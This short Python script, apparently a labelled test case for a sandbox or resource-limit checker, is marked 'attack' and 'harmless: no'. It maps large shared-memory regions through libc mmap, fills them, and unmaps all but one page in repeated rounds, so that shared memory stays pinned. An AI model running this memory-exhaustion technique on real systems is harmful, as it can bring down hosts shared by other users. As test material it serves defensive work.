# attack: shared memory is filled, and all but one page of it given back, again and again
# harmless: no
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *3 * [ctypes.c_int], ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
SIZE, ANONYMOUS = 50_003_968, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS
zero = os.open("/dev/zero", os.O_RDWR)
for file, flags in ((-1, ANONYMOUS), (-1, ANONYMOUS | 0x40000), (zero, mmap.MAP_SHARED)):
    for _ in range(20):
        place = libc.mmap(None, SIZE, mmap.PROT_READ | mmap.PROT_WRITE, flags, file, 0)
        if place in (None, 2**64 - 1):
            print(file, os.strerror(ctypes.get_errno()))
            break
        ctypes.memset(place, 120, SIZE)
        libc.munmap(place + 4096, SIZE - 4096)
print([line for line in open("/proc/meminfo") if line.startswith("Shmem:")], flush=True)
